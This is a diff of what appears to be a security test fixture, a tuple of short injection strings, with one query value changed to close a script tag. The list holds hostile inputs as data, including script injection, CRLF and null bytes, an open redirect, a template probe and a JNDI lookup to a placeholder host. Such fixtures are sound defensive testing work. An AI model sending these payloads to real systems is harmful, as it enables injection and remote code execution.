@@ -56,7 +56,7 @@ INJECTIONS = (
 """Text that is harmful in a shell, spreadsheet, template, query, page or path; up to 32 characters each."""
 
 QUERIES = (
-    "?q=%00%0d%0a&x=<script>",
+    "?q=%00%0d%0a&x=<script></script>",
     "?next=//x.invalid/%2e%2e/",
     "?q={{7*7}}&r=${jndi:ldap://x.invalid}",
     "#\u202egnp.exe",
